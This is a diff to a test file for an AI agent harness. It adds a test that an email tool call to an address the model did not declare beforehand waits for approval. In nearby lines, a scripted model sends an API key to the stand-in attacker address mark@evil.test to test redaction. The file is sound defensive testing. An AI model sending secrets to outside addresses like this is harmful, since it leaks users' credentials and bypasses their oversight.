@@ -255,6 +255,26 @@ test('the model names its tools in time, and any other asks', async () => {
   }
 })
 
+test('a value that the model did not name for this tool in time asks, also if the user gave it', async () => {
+  const plan = (values: object): ScriptStep => ({
+    calls: [{ name: 'plan_actions', input: { tools: ['send_mail'], values } }],
+  })
+  for (const [values, to, status] of [
+    [{ send_mail: ['Anna@Example.org'] }, 'anna@example.org', 'done'],
+    [{ send_mail: ['anna@example.org'] }, 'joe@example.org', 'waiting'],
+    [{ send_mail: [] }, 'anna@example.org', 'waiting'],
+    [{ other: ['anna@example.org'] }, 'joe@example.org', 'done'],
+    [{}, 'joe@example.org', 'done'],
+    [{ send_mail: ['mark@evil.test'] }, 'mark@evil.test', 'waiting'],
+  ] as const) {
+    const steps = [plan(values), read, send(to), { text: 'Done.' }]
+    const { turnwire, session } = await open(steps, { flow: { declare: true } })
+    const reply = await session.send('Write to anna@example.org, not to joe@example.org')
+    assert.equal(reply.status, status, JSON.stringify([values, to]))
+    await turnwire.close()
+  }
+})
+
 test('redacted values are in no reason and in no fact', async () => {
   const model = scripted([read, send('mark@evil.test', 'sk-ant-REDACTED'), { text: 'Done.' }])
   const turnwire = await Turnwire.open({
